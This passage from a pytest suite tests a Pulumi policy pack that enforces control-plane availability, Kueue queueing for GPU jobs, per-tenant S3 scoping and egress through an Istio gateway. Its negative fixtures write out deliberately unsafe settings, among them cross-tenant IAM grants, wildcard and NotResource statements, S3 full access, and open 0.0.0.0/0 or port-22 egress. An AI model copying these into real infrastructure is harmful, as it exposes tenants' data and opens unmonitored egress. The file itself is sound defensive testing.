ISTIOD, GATEWAY, KUEUE = "mesh-istiod", "mesh-gateway", "kueue-release"
GATEWAY_PDB = "mesh-gateway-pdb"
EGRESS_GATEWAY, EGRESS_GATEWAY_PDB = "egress-gateway-release", "egress-gateway-pdb"
HOSTNAME = "kubernetes.io/hostname"


def values(change):
    return lambda release: change(release["values"])


def manager(change):
    return lambda release: change(release["values"]["controllerManager"])


def workload(name: str, change):
    """Change the KnativeServing's workload override of `name`."""
    return lambda serving: change(next(w for w in serving["spec"]["workloads"] if w["name"] == name))


def first_spread(change):
    """Change the first topologySpreadConstraint of the values (or override) given."""
    return lambda holder: change(holder["topologySpreadConstraints"][0])


def without(name: str):
    return lambda records: [r for r in records if r.name != name]


def with_budget(name: str, namespace: str, selector: dict[str, str], **spec: Any):
    """A PodDisruptionBudget the stack declares beside the others."""

    def change(records):
        outputs = {
            "apiVersion": "policy/v1",
            "kind": "PodDisruptionBudget",
            "metadata": {"name": name, "namespace": namespace},
            "spec": {**spec, "selector": {"matchLabels": selector}},
        }
        urn = f"urn:pulumi:prod::{PROJECT}::kubernetes:policy/v1:PodDisruptionBudget::{name}"
        return [
            *records,
            RecordedResource("kubernetes:policy/v1:PodDisruptionBudget", name, urn, None, True, None, outputs, outputs),
        ]

    return change


REQUIRED_ANTI_AFFINITY = {
    "podAntiAffinity": {
        "requiredDuringSchedulingIgnoredDuringExecution": [
            {"topologyKey": HOSTNAME, "labelSelector": {"matchLabels": {"app": "istiod"}}}
        ]
    }
}
PREFERRED_ANTI_AFFINITY = {
    "podAntiAffinity": {
        "preferredDuringSchedulingIgnoredDuringExecution": [
            {"weight": 100, "podAffinityTerm": {"topologyKey": HOSTNAME, "labelSelector": {"matchLabels": {"app": "istiod"}}}}
        ]
    }
}


@pytest.mark.parametrize(
    "change, flagged, names",
    [
        # istiod: autoscaleMin, topologySpreadConstraints, the chart's budget (global.defaultPodDisruptionBudget, pdb).
        (edit(ISTIOD, values(lambda v: v.update(autoscaleMin=1))), ISTIOD, "set autoscaleMin to 2"),
        (edit(ISTIOD, values(lambda v: v.update(autoscaleEnabled=False))), ISTIOD, "set replicaCount to 2"),  # replicaCount 1
        (edit(ISTIOD, values(lambda v: v.update(autoscaleEnabled=False, replicaCount=3))), None, None),
        (edit(ISTIOD, values(lambda v: v.pop("topologySpreadConstraints"))), ISTIOD, "set topologySpreadConstraints"),
        (edit(ISTIOD, values(first_spread(lambda c: c.update(whenUnsatisfiable="ScheduleAnyway")))), ISTIOD, "share a node"),
        (edit(ISTIOD, values(first_spread(lambda c: c.update(topologyKey="topology.kubernetes.io/zone")))), ISTIOD, "share"),
        (edit(ISTIOD, values(first_spread(lambda c: c.update(maxSkew=2)))), ISTIOD, "maxSkew 1"),
        (edit(ISTIOD, values(first_spread(lambda c: c.update(labelSelector={"matchLabels": {"app": "other"}})))), ISTIOD,
         "selecting {'app': 'istiod'}"),
        (edit(ISTIOD, values(lambda v: (v.pop("topologySpreadConstraints"), v.update(affinity=REQUIRED_ANTI_AFFINITY)))),
         None, None),
        (edit(ISTIOD, values(lambda v: (v.pop("topologySpreadConstraints"), v.update(affinity=PREFERRED_ANTI_AFFINITY)))),
         ISTIOD, "share a node"),
        (edit(ISTIOD, values(lambda v: v.update({"global": {**v["global"], "defaultPodDisruptionBudget": {"enabled": False}}}))),
         ISTIOD, "set global.defaultPodDisruptionBudget.enabled"),
        (edit(ISTIOD, values(lambda v: v.update(pdb={"minAvailable": 0}))), ISTIOD, "the budget its pdb makes (neither"),
        (edit(ISTIOD, values(lambda v: v.update(pdb={"maxUnavailable": 2}))), ISTIOD, "maxUnavailable 2 of 2"),
        (edit(ISTIOD, values(lambda v: v.update(pdb={"minAvailable": 2}))), ISTIOD,
         "its pdb makes (minAvailable 2 with as few as 2 replicas) lets no pod be evicted"),
        (edit(ISTIOD, values(lambda v: v.update(pdb={"maxUnavailable": 1}))), None, None),
        (with_budget("istiod-extra", "istio-system", {"app": "istiod"}, maxUnavailable=1), ISTIOD, "more than one budget"),
        # The ingress gateway: autoscaling.minReplicas, topologySpreadConstraints, the stack's budget.
        (edit(GATEWAY, values(lambda v: v["autoscaling"].update(minReplicas=1))), GATEWAY, "set autoscaling.minReplicas"),
        (edit(GATEWAY, values(lambda v: v.pop("topologySpreadConstraints"))), GATEWAY, "share a node"),
        (without(GATEWAY_PDB), GATEWAY, "no PodDisruptionBudget selects its pods"),
        (edit(GATEWAY_PDB, lambda b: b["spec"]["selector"].update(matchLabels={"istio": "egress"})), GATEWAY,
         "a PodDisruptionBudget in istio-system"),
        (edit(GATEWAY_PDB, lambda b: b["spec"].update(minAvailable=2)), GATEWAY_PDB, "lets no pod of the ingress gateway"),
        # The chart's own budget beside the stack's: two budgets, so no gateway pod can be evicted.
        (edit(GATEWAY, values(lambda v: v.update(podDisruptionBudget={"minAvailable": 1}))), GATEWAY, "more than one budget"),
        # The egress gateway, the gateway chart's second release: held alike, its budget selecting its own pods.
        (edit(EGRESS_GATEWAY, values(lambda v: v["autoscaling"].update(minReplicas=1))), EGRESS_GATEWAY, "the egressgateway"),
        (edit(EGRESS_GATEWAY, values(lambda v: v.pop("topologySpreadConstraints"))), EGRESS_GATEWAY, "share a node"),
        (without(EGRESS_GATEWAY_PDB), EGRESS_GATEWAY, "no PodDisruptionBudget selects its pods"),
        (edit(EGRESS_GATEWAY_PDB, lambda b: b["spec"]["selector"].update(matchLabels={"istio": "ingressgateway"})),
         EGRESS_GATEWAY, "a PodDisruptionBudget in istio-egress"),
        # Knative Serving: spec.high-availability.replicas or a workload's, spec.workloads[].topologySpreadConstraints,
        # spec.podDisruptionBudgets[] for activator-pdb and webhook-pdb, the stack's budgets for the others.
        (edit(SERVING, lambda r: r["spec"].pop("high-availability")), SERVING, "set spec.high-availability.replicas"),
        (edit(SERVING, lambda r: r["spec"].update({"high-availability": {"replicas": 3}})), None, None),
        (edit(SERVING, workload("controller", lambda w: w.update(replicas=1))), SERVING,
         "Knative's controller (KnativeServing knative-serving/knative-serving) runs as few as 1 replica(s)"),
        (edit(SERVING, lambda r: r["spec"].update(deployments=[{"name": "webhook", "replicas": 1}])), SERVING,
         "set spec.deployments[name=webhook].replicas"),
        (edit(SERVING, lambda r: r["spec"].pop("workloads")), SERVING,
         "set spec.workloads[name=activator].topologySpreadConstraints"),
        (edit(SERVING, workload("net-istio-webhook", first_spread(lambda c: c.update(whenUnsatisfiable="ScheduleAnyway")))),
         SERVING, "set spec.workloads[name=net-istio-webhook].topologySpreadConstraints"),
        (edit(SERVING, workload("autoscaler", lambda w: (w.pop("topologySpreadConstraints"), w.update(affinity={
            "podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [
                {"topologyKey": HOSTNAME, "labelSelector": {"matchLabels": {"app": "autoscaler"}}}]}})))), None, None),
        # Without the override the manifests' 80% lets none of two activators or webhooks go.
        (edit(SERVING, lambda r: r["spec"].pop("podDisruptionBudgets")), SERVING, "minAvailable 80% with as few as 2 replicas"),
        (edit(SERVING, lambda r: r["spec"]["podDisruptionBudgets"][0].update(minAvailable=1)), SERVING,
         "the operator refuses both"),
        (edit(SERVING, lambda r: r["spec"]["podDisruptionBudgets"][1].update(maxUnavailable="100%")), SERVING,
         "the budget its spec.podDisruptionBudgets[name=webhook-pdb] makes (maxUnavailable 100% of 2 replicas)"),
        (without("knative-serving-controller-pdb"), SERVING,
         "Knative's controller (KnativeServing knative-serving/knative-serving): no PodDisruptionBudget"),
        (without("knative-serving-net-istio-webhook-pdb"), SERVING,
         "a PodDisruptionBudget in knative-serving selecting {'app': 'net-istio-webhook'}"),
        (edit("knative-serving-autoscaler-pdb", lambda b: b["spec"].update(maxUnavailable=0)),
         "knative-serving-autoscaler-pdb", "lets no pod of Knative's autoscaler"),
        (with_budget("activator-extra", "knative-serving", {"app": "activator"}, maxUnavailable=1), SERVING,
         "more than one budget"),
        # The endpoint pickers: spec.replicas, their pods' topologySpreadConstraints, the stack's budgets.
        (edit(EPP, lambda d: d["spec"].update(replicas=1)), EPP, "set spec.replicas to 2"),
        (edit(EPP, lambda d: d["spec"]["template"]["spec"].pop("topologySpreadConstraints")), EPP,
         "set spec.template.spec.topologySpreadConstraints"),
        # Left by zone only.
        (edit(EPP, lambda d: d["spec"]["template"]["spec"]["topologySpreadConstraints"].pop(0)), EPP, "share a node"),
        (without(EPP_PDB), EPP, "no PodDisruptionBudget selects its pods"),
        (edit(EPP_PDB, lambda b: b["spec"]["selector"].update(matchExpressions=[
            {"key": "llm-d-router-gateway", "operator": "NotIn", "values": ["llama-1b-v1-epp"]}])), EPP,
         "no PodDisruptionBudget"),
        (edit(EPP_PDB, lambda b: b["spec"].update(maxUnavailable="100%")), EPP_PDB, "maxUnavailable 100% of 2 replicas"),
        (edit(EPP_PDB, without_maximum(minAvailable=0)), EPP_PDB, "minAvailable 0"),
        (edit(EPP_PDB, without_maximum()), EPP_PDB, "neither minAvailable nor maxUnavailable"),
        (edit(EPP_PDB, lambda b: b["spec"].update(maxUnavailable=0)), EPP_PDB, "every node drain and upgrade stalls"),
        (edit(EPP_PDB, lambda b: b["spec"].update(minAvailable=1)), EPP_PDB, "which the API server refuses"),
        (edit(EPP_PDB, without_maximum(minAvailable=1)), None, None),
        (edit(EPP_PDB, lambda b: b["spec"].update(maxUnavailable="50%")), None, None),
        # Kueue's manager: controllerManager.replicas, .topologySpreadConstraints (the chart reads no affinity),
        # .podDisruptionBudget.
        (edit(KUEUE, manager(lambda m: m.update(replicas=1))), KUEUE, "set controllerManager.replicas"),
        (edit(KUEUE, manager(lambda m: m.pop("topologySpreadConstraints"))), KUEUE,
         "set controllerManager.topologySpreadConstraints"),
        (edit(KUEUE, manager(lambda m: (m.pop("topologySpreadConstraints"), m.update(affinity=REQUIRED_ANTI_AFFINITY)))), KUEUE,
         "share a node"),
        (edit(KUEUE, manager(lambda m: m.pop("podDisruptionBudget"))), KUEUE,
         "set controllerManager.podDisruptionBudget.enabled"),
        (edit(KUEUE, manager(lambda m: m["podDisruptionBudget"].update(enabled=False))), KUEUE, "no PodDisruptionBudget"),
        (edit(KUEUE, manager(lambda m: m["podDisruptionBudget"].update(minAvailable=2))), KUEUE,
         "controllerManager.podDisruptionBudget makes (minAvailable 2 with as few as 2 replicas) lets no pod"),
        (edit(KUEUE, manager(lambda m: m["podDisruptionBudget"].update(minAvailable=None))), KUEUE, "neither minAvailable"),
        # The cluster autoscaler: replicaCount, topologySpreadConstraints, its chart's podDisruptionBudget (maxUnavailable 1
        # by default, merged with what the release gives).
        (edit(AUTOSCALER, values(lambda v: v.pop("replicaCount"))), AUTOSCALER, "set replicaCount to 2"),
        (edit(AUTOSCALER, values(lambda v: v.update(replicaCount=1))), AUTOSCALER, "runs as few as 1"),
        (edit(AUTOSCALER, values(lambda v: v.update(replicaCount=3))), None, None),
        (edit(AUTOSCALER, values(lambda v: v.pop("topologySpreadConstraints"))), AUTOSCALER, "share a node"),
        (edit(AUTOSCALER, values(lambda v: v.update(podDisruptionBudget=None))), AUTOSCALER, "set podDisruptionBudget"),
        (edit(AUTOSCALER, values(lambda v: v.update(podDisruptionBudget={"maxUnavailable": None}))), AUTOSCALER,
         "no PodDisruptionBudget"),
        (edit(AUTOSCALER, values(lambda v: v.update(podDisruptionBudget={"maxUnavailable": 2}))), AUTOSCALER,
         "maxUnavailable 2 of 2 replicas"),
        (edit(AUTOSCALER, values(lambda v: v.update(podDisruptionBudget={"minAvailable": 2, "maxUnavailable": None}))),
         AUTOSCALER, "podDisruptionBudget makes (minAvailable 2 with as few as 2 replicas) lets no pod be evicted"),
        # The chart's maxUnavailable 1 stays beside a minAvailable given alone: both, which the chart refuses.
        (edit(AUTOSCALER, values(lambda v: v.update(podDisruptionBudget={"minAvailable": 1}))), AUTOSCALER, "both"),
        (edit(AUTOSCALER, values(lambda v: v.update(podDisruptionBudget={"minAvailable": 1, "maxUnavailable": None}))),
         None, None),
        (edit(AUTOSCALER, values(lambda v: v.update(podDisruptionBudget={}))), None, None),
    ],
    ids=["istiod-one", "istiod-fixed-one", "istiod-fixed-three", "istiod-unspread", "istiod-spread-anyway",
         "istiod-spread-by-zone", "istiod-skew-2", "istiod-spread-selects-others", "istiod-anti-affinity",
         "istiod-preferred-anti-affinity", "istiod-budget-off", "istiod-min-available-0", "istiod-max-unavailable-all",
         "istiod-min-available-all", "istiod-max-unavailable-1", "istiod-two-budgets",
         "gateway-one", "gateway-unspread", "gateway-no-budget", "gateway-budget-of-another", "gateway-budget-blocks",
         "gateway-two-budgets", "egress-gateway-one", "egress-gateway-unspread", "egress-gateway-no-budget",
         "egress-gateway-budget-of-the-ingress",
         "knative-no-ha", "knative-three", "knative-controller-one", "knative-deprecated-override-one",
         "knative-unspread", "knative-spread-anyway", "knative-anti-affinity", "knative-bundled-budgets",
         "knative-budget-both", "knative-budget-all", "knative-controller-no-budget", "knative-net-istio-no-budget",
         "knative-budget-blocks", "knative-two-budgets",
         "picker-one", "picker-unspread", "picker-by-zone-only", "picker-no-budget", "picker-budget-selects-none",
         "picker-max-unavailable-100-percent", "picker-min-available-0", "picker-budget-of-nothing",
         "picker-max-unavailable-0", "picker-budget-both", "picker-min-available-1", "picker-max-unavailable-50-percent",
         "kueue-one", "kueue-unspread", "kueue-affinity-unread", "kueue-no-budget", "kueue-budget-off",
         "kueue-budget-blocks", "kueue-budget-null",
         "autoscaler-default-one", "autoscaler-one", "autoscaler-three", "autoscaler-unspread", "autoscaler-budget-null",
         "autoscaler-budget-emptied", "autoscaler-max-unavailable-all", "autoscaler-min-available-all",
         "autoscaler-budget-both", "autoscaler-min-available-1", "autoscaler-chart-budget"],
)  # fmt: skip
def test_what_every_request_depends_on_is_highly_available(harness, baseline, change, flagged, names):
    """Each part of the control plane in production, each of the three properties, read where the program sets it:
    a change that breaks one is refused naming the part and the key; one that keeps it is not."""
    hits = harness.analyze_stack(stack_with(baseline, change))
    assert {(d.policy, d.level, d.urn.rsplit("::", 1)[-1]) for d in hits} == (
        {("control-plane-availability", "mandatory", flagged)} if flagged else set()
    )
    assert flagged is None or any(names in d.message for d in hits), [d.message for d in hits]


# --- GPU Jobs outside Kueue ----------------------------------------------------------------------------

JOB = "kubernetes:batch/v1:Job"
CRON_JOB = "kubernetes:batch/v1:CronJob"
QUEUE_LABEL = "kueue.x-k8s.io/queue-name"


def _metadatas(record: RecordedResource) -> list[dict[str, Any]]:
    """The object's metadata in inputs and outputs (possibly one object: the mock echoes inputs)."""
    return list({id(m): m for m in (record.inputs["metadata"], record.outputs["metadata"])}.values())


def _queued_as(queue: str | None):
    """The batch job's Job labelled with `queue` (None: the label removed)."""

    def change(records):
        record = next(r for r in records if r.type == JOB and r.name == "ticket-labels-job")
        for metadata in _metadatas(record):
            metadata["labels"].pop(QUEUE_LABEL)
            if queue is not None:
                metadata["labels"][QUEUE_LABEL] = queue
        return records

    return change


def _kueue_hits(running, records) -> set[str]:
    hits = [d for d in running.analyze_stack(records) if d.policy == "gpu-jobs-through-kueue"]
    assert all(d.level == "mandatory" for d in hits)
    return {d.urn.rsplit("::", 1)[-1] for d in hits}


@pytest.mark.parametrize(
    "queue, defaults, configured_verdict",
    [
        (None, {"ticket-labels-job"}, {"ticket-labels-job"}),
        ("batch-nope", {"ticket-labels-job"}, {"ticket-labels-job"}),
        ("shared", {"ticket-labels-job"}, set()),
        ("batch", set(), set()),
    ],
    ids=["no-label", "unknown-queue", "external-queue", "tenants-own-queue"],
)
def test_a_gpu_job_must_be_queued_in_a_local_queue_of_its_namespace(
    harness, configured_harness, baseline, queue, defaults, configured_verdict
):
    """Without the label Kueue leaves the Job alone and it runs outside the batch quota; a label
    naming no LocalQueue of the namespace keeps it suspended. The tenant's own `batch` queue is
    fine, and a queue declared outside the stack once the policy config names it."""
    records = stack_with(baseline, _queued_as(queue))
    assert _kueue_hits(harness, records) == defaults
    assert _kueue_hits(configured_harness, records) == configured_verdict


def test_the_message_says_why_and_names_the_namespaces_queues(harness, baseline):
    [hit] = [d for d in harness.analyze_stack(stack_with(baseline, _queued_as(None))) if d.policy == "gpu-jobs-through-kueue"]
    assert "outside the tenant's batch quota" in hit.message
    assert "batch, batch-review-labels, batch-ticket-labels" in hit.message


def _cron_job(labelled: bool):
    """A CronJob beside the batch jobs, its pods the ticket-labels Job's (GPUs and all)."""

    def change(records):
        job = next(r for r in records if r.type == JOB and r.name == "ticket-labels-job")
        labels = {} if not labelled else {QUEUE_LABEL: "batch"}
        inputs = {
            "apiVersion": "batch/v1",
            "kind": "CronJob",
            "metadata": {"name": "nightly", "namespace": "team-b"},
            "spec": {
                "schedule": "0 2 * * *",
                "jobTemplate": {"metadata": {"labels": labels}, "spec": copy.deepcopy(job.outputs["spec"])},
            },
        }
        urn = f"urn:pulumi:prod::{PROJECT}::{CRON_JOB}::nightly"
        return [*records, RecordedResource(CRON_JOB, "nightly", urn, None, True, None, inputs, copy.deepcopy(inputs))]

    return change


def test_a_cron_jobs_gpu_jobs_must_be_queued_too(harness, baseline):
    assert _kueue_hits(harness, stack_with(baseline, _cron_job(labelled=False))) == {"nightly"}
    assert _kueue_hits(harness, stack_with(baseline, _cron_job(labelled=True))) == set()


def test_a_job_without_gpus_need_not_be_queued(harness, baseline):
    def cpu_only(records):
        records = _queued_as(None)(records)
        record = next(r for r in records if r.type == JOB and r.name == "ticket-labels-job")
        for spec in both(record):
            for container in [*spec.get("initContainers", []), *spec["containers"]]:
                for kind in ("requests", "limits"):
                    container.get("resources", {}).get(kind, {}).pop("nvidia.com/gpu", None)
        return records

    assert _kueue_hits(harness, stack_with(baseline, cpu_only)) == set()


# --- data belongs to its tenant (tenant-s3-scoping) -------------------------------------------------

ROLE = "aws:iam/role:Role"
ROLE_POLICY = "aws:iam/rolePolicy:RolePolicy"
NAMESPACE = "kubernetes:core/v1:Namespace"


def _granting(name: str, *statements: dict[str, Any]):
    """The stack with the role policy `name` granting `statements` too (as the program writes them, in both the
    inputs and the outputs the pack is sent)."""

    def change(records: list[RecordedResource]) -> list[RecordedResource]:
        (record,) = [r for r in records if r.type == ROLE_POLICY and r.name == name]
        for props in (record.inputs, record.outputs):
            document = json.loads(props["policy"])
            document["Statement"].extend(statements)
            props["policy"] = json.dumps(document)
        return records

    return change


def _object_grant(arn: str, *actions: str) -> dict[str, Any]:
    return {"Effect": "Allow", "Action": list(actions), "Resource": arn}


def _sibling_role(records: list[RecordedResource], name: str) -> RecordedResource:
    (policy,) = [r for r in records if r.type == ROLE_POLICY and r.name == name]
    (role,) = [r for r in records if r.type == ROLE and r.parent == policy.parent]
    return role


TENANT_TAG = "inference.platform/tenant"
MIRROR_TAG = "inference.platform/weight-mirror-for"


def _untagged(name: str, change, tag: str = TENANT_TAG):
    """`change`, with the role beside the policy `name` stripped of its owner tag `tag`."""

    def untag(records: list[RecordedResource]) -> list[RecordedResource]:
        records = change(records)
        role = _sibling_role(records, name)
        for props in (role.inputs, role.outputs):
            props["tags"] = {k: v for k, v in props["tags"].items() if k != tag}
        return records

    return untag


def _retagged(name: str, tenant: str):
    def retag(records: list[RecordedResource]) -> list[RecordedResource]:
        role = _sibling_role(records, name)
        for props in (role.inputs, role.outputs):
            props["tags"] = {**props["tags"], TENANT_TAG: tenant}
        return records

    return retag


def _replacing_policy(name: str, text: str):
    def replace(records: list[RecordedResource]) -> list[RecordedResource]:
        (record,) = [r for r in records if r.type == ROLE_POLICY and r.name == name]
        for props in (record.inputs, record.outputs):
            props["policy"] = text
        return records

    return replace


def _attaching(name: str):
    """An AWS managed policy attached to the role beside `name`, by a resource under the same parent."""

    def attach(records: list[RecordedResource]) -> list[RecordedResource]:
        (policy,) = [r for r in records if r.type == ROLE_POLICY and r.name == name]
        extra = copy.deepcopy(policy)
        extra.type = "aws:iam/rolePolicyAttachment:RolePolicyAttachment"
        extra.name = f"{name}-s3-full-access"
        extra.urn = policy.urn.replace("aws:iam/rolePolicy:RolePolicy", extra.type) + "-s3-full-access"
        for props in (extra.inputs, extra.outputs):
            props.pop("policy", None)
            props["policyArn"] = "arn:aws:iam::aws:policy/AmazonS3FullAccess"
        return [*records, extra]

    return attach


def _declaring(tenant: str, prefixes: list[str]):
    def change(records: list[RecordedResource]) -> list[RecordedResource]:
        (namespace,) = [r for r in records if r.type == NAMESPACE and r.name == tenant]
        for props in (namespace.inputs, namespace.outputs):
            props["metadata"]["annotations"]["inference.platform/s3-prefixes"] = json.dumps(prefixes)
        return records

    return change


def test_the_rendered_roles_reach_only_their_tenants_data(harness, baseline):
    assert "tenant-s3-scoping" not in analyze_stack(harness, list(baseline.records))


@pytest.mark.parametrize(
    "change",
    [
        # team-b's batch job overwriting the weight mirror's copy the shared 70B streams from.
        _granting(
            "review-labels-identity-policy", _object_grant("arn:aws:s3:::inference-prod-model-weights/serving/*", "s3:PutObject")
        ),
        # team-b reading the serving tenant's adapters.
        _granting(
            "review-labels-identity-policy", _object_grant("arn:aws:s3:::inference-prod-adapters/llama-3.1-8b/*", "s3:GetObject")
        ),
        # team-a's servers reading team-b's batch outputs, with or without their role's tenant tag.
        _granting("llama-1b-weights-identity-policy", _object_grant("arn:aws:s3:::team-b-batch/outputs/*", "s3:GetObject")),
        _untagged(
            "llama-1b-weights-identity-policy",
            _granting("llama-1b-weights-identity-policy", _object_grant("arn:aws:s3:::team-b-batch/*", "s3:GetObject")),
        ),
        # team-a's servers reading another tenant's copies in the weight mirror.
        _granting(
            "llama-1b-weights-identity-policy",
            _object_grant("arn:aws:s3:::inference-prod-model-weights/serving/*", "s3:GetObject"),
        ),
        # Listing a whole bucket, or another tenant's folder of it.
        _granting(
            "llama-1b-weights-identity-policy",
            {"Effect": "Allow", "Action": ["s3:ListBucket"], "Resource": "arn:aws:s3:::team-b-batch"},
        ),
        # Anything but S3.
        _granting("review-labels-identity-policy", _object_grant("*", "s3:GetObject")),
        # The mirror's role for team-a writing the serving tenant's copies.
        _granting(
            "weight-mirror-team-a-identity-policy",
            _object_grant("arn:aws:s3:::inference-prod-model-weights/serving/*", "s3:PutObject"),
        ),
        # Two tenants claiming the same data.
        _declaring("team-a", ["s3://team-b-batch/outputs"]),
        # Everything but one location; wildcards that reach past a folder.
        _granting(
            "review-labels-identity-policy", {"Effect": "Allow", "Action": ["s3:GetObject"], "NotResource": "arn:aws:s3:::x/y"}
        ),
        _granting(
            "review-labels-identity-policy",
            {"Effect": "Allow", "NotAction": ["s3:DeleteObject"], "Resource": "arn:aws:s3:::team-b-batch/*"},
        ),
        _granting("review-labels-identity-policy", _object_grant("arn:aws:s3:::team-b-batch/out*", "s3:GetObject")),
        _granting("review-labels-identity-policy", _object_grant("arn:aws:s3:::team-b-*/*", "s3:GetObject")),
        _granting("review-labels-identity-policy", _object_grant("arn:aws:s3:::*/team-b/*", "s3:GetObject")),
        # The mirror's role for team-a writing team-b's bucket "as a mirror", or with its tag stripped.
        _granting("weight-mirror-team-a-identity-policy", _object_grant("arn:aws:s3:::team-b-batch/team-a/*", "s3:PutObject")),
        _untagged(
            "weight-mirror-team-a-identity-policy",
            _granting("weight-mirror-team-a-identity-policy", _object_grant("arn:aws:s3:::team-b-batch/*", "s3:PutObject")),
            MIRROR_TAG,
        ),
        # A role of team-b's pods tagged as team-a's, to be checked against team-a's prefixes.
        _retagged("review-labels-identity-policy", "team-a"),
        # A policy that is not a policy document, and one attached beside the inline policy.
        _replacing_policy("review-labels-identity-policy", "not json"),
        _attaching("review-labels-identity-policy"),
    ],
    ids=[
        "mirror-write",
        "other-tenants-adapters",
        "other-tenants-outputs",
        "untagged-role",
        "other-tenants-copies",
        "whole-bucket-listing",
        "not-s3",
        "mirror-writes-another-tenant",
        "overlapping-prefixes",
        "not-resource",
        "not-action",
        "key-wildcard",
        "bucket-wildcard",
        "any-bucket",
        "mirror-elsewhere",
        "untagged-mirror",
        "retagged",
        "not-a-document",
        "attached-policy",
    ],  # fmt: skip
)
def test_a_tenants_role_reaching_anothers_data_is_refused(harness, baseline, change):
    assert analyze_stack(harness, stack_with(baseline, change)).get("tenant-s3-scoping") == "mandatory"


def test_the_packs_own_prefixes_overrule_what_a_namespace_declares(baseline):
    """A stack change can widen what its tenant's namespace declares; the pack's config (CI's, not the stack's) then
    still holds the tenant to its own prefixes."""
    widened = _granting("review-labels-identity-policy", _object_grant("arn:aws:s3:::team-b-archive/*", "s3:GetObject"))
    change = lambda records: _declaring("team-b", ["s3://team-b-batch", "s3://team-b-archive"])(widened(records))  # noqa: E731
    # When set it is the whole truth: a tenant it does not name has no data.
    truth = {"serving": ["s3://inference-prod-adapters/llama-3.1-8b"], "team-b": ["s3://team-b-batch"]}
    running = PolicyHarness("prod", {"tenant-s3-scoping": {"tenantS3Prefixes": truth}})
    assert "tenant-s3-scoping" not in analyze_stack(running, stack_with(baseline, _declaring("team-b", ["s3://team-b-batch"])))
    assert analyze_stack(running, stack_with(baseline, change)).get("tenant-s3-scoping") == "mandatory"


# --- tenant egress through the egress gateway (issue 27) ------------------------------------------

EGRESS_HOST = "istio-egressgateway.istio-egress.svc.cluster.local"
ANYWHERE_443 = {"ports": [{"protocol": "TCP", "port": 443}], "to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}
TEAM_A_GATEWAY = "team-a-allow-egress-gateway-egress"  # team-a's pods to the egress gateway (team-a reads S3 only)
TEAM_B_HUGGING_FACE = "team-b-allow-hugging-face-egress"  # team-b's servers and jobs to Hugging Face's CDN
TEAM_B_S3 = "team-b-egress-s3"  # team-b's ServiceEntry of its buckets' hosts (and the weight mirror's)
TEAM_B_HUB = "team-b-egress-hugging-face"  # a ServiceEntry of Hugging Face's hosts, as rendered outside production
TEAM_B_ROUTES, TEAM_B_SUBSETS = "team-b-egress-routes", "team-b-egress-subsets"
EGRESS_GATEWAY_OBJECT = "egress-gateway-gateway"
TEAM_A_GRANT = "egress-gateway-tenant-team-a"


def _edit(name: str, change):
    """Change the outputs (what AnalyzeStack sees) of the record named `name`."""

    def changed(records: list[RecordedResource]) -> list[RecordedResource]:
        change(next(r for r in records if r.name == name).outputs)
        return records

    return changed


def _without(*names: str):
    return lambda records: [r for r in records if r.name not in names]


def _first_rule(record: dict[str, Any]) -> dict[str, Any]:
    return record["spec"]["egress"][0]


def _with_download_rule(change=lambda spec: None):
    """Team-b's namespace with the Hugging Face download rule a stack outside production without a weight mirror
    renders (components/specs/network.py outbound_policies: HTTPS anywhere but instance metadata, for its servers'
    and jobs' pods), `change`d."""
    from components.specs.network import HUGGING_FACE_DOWNLOADERS, https_anywhere, network_policy

    def changed(records: list[RecordedResource]) -> list[RecordedResource]:
        rule = copy.deepcopy(next(r for r in records if r.name == TEAM_A_GATEWAY))
        policy = network_policy("team-b", "allow-hugging-face-egress", "Egress", https_anywhere(), HUGGING_FACE_DOWNLOADERS)
        change(policy)
        rule.name, rule.urn = TEAM_B_HUGGING_FACE, rule.urn.replace(TEAM_A_GATEWAY, TEAM_B_HUGGING_FACE)
        rule.inputs = rule.outputs = policy
        return [*records, rule]

    return changed


def _with_hub_entry(*hosts: str):
    """Team-b's namespace with a ServiceEntry of Hugging Face's `hosts`, of the form the program renders outside
    production (components/tenant.py), beside its S3 one."""

    def changed(records: list[RecordedResource]) -> list[RecordedResource]:
        entry = copy.deepcopy(next(r for r in records if r.name == TEAM_B_S3))
        entry.name, entry.urn = TEAM_B_HUB, entry.urn.replace(TEAM_B_S3, TEAM_B_HUB)
        entry.outputs["metadata"]["name"] = "hugging-face"
        entry.outputs["spec"]["hosts"] = list(hosts)
        if any(h.startswith("*.") for h in hosts):
            entry.outputs["spec"]["resolution"] = "DYNAMIC_DNS"
        entry.inputs = entry.outputs
        return [*records, entry]

    return changed


def _subset(record: dict[str, Any], host_part: str) -> dict[str, Any]:
    return next(s for s in record["spec"]["subsets"] if host_part in s["trafficPolicy"]["portLevelSettings"][0]["tls"]["sni"])


def _grant(record: dict[str, Any]) -> dict[str, Any]:
    return record["spec"]["rules"][0]


@pytest.mark.parametrize(
    ("change", "flagged"),
    [
        (lambda rs: rs, set()),
        # Past the gateway by address: every pod, a split of the whole space, a rule without peers.
        (_edit(TEAM_A_GATEWAY, lambda p: p["spec"]["egress"].append(ANYWHERE_443)), {TEAM_A_GATEWAY}),
        (_edit(TEAM_A_GATEWAY, lambda p: p["spec"]["egress"].append(
            {"to": [{"ipBlock": {"cidr": "0.0.0.0/1"}}, {"ipBlock": {"cidr": "128.0.0.0/1"}}]})), {TEAM_A_GATEWAY}),
        (_edit(TEAM_A_GATEWAY, lambda p: p["spec"]["egress"].append({"ports": [{"protocol": "TCP", "port": 22}]})),
         {TEAM_A_GATEWAY}),
        (_edit(TEAM_A_GATEWAY, lambda p: p["spec"]["egress"].append({"to": [{"ipBlock": {"cidr": "::/0"}}]})), {TEAM_A_GATEWAY}),
        # No Hugging Face in production: the download rule a stack outside production renders, however narrow (its
        # servers and jobs only, HTTPS only, instance metadata excepted), with the wildcard hosts it exists for or
        # without; and any ServiceEntry of Hugging Face's hosts (the weight mirror's Jobs download from there).
        (_with_download_rule(), {TEAM_B_HUGGING_FACE}),
        (_with_download_rule(lambda p: p["spec"].update(podSelector={})), {TEAM_B_HUGGING_FACE}),
        (_with_download_rule(lambda p: p["spec"]["egress"][0]["to"].pop(1)), {TEAM_B_HUGGING_FACE}),
        (lambda rs: _with_download_rule()(_with_hub_entry("*.huggingface.co", "*.hf.co")(rs)),
         {TEAM_B_HUGGING_FACE, TEAM_B_HUB}),
        (_with_hub_entry("huggingface.co"), {TEAM_B_HUB}),
        (_with_hub_entry("*.hf.co"), {TEAM_B_HUB}),
        # A host sent around the gateway, or to it unidentified.
        (_without(TEAM_B_ROUTES), {TEAM_B_S3}),
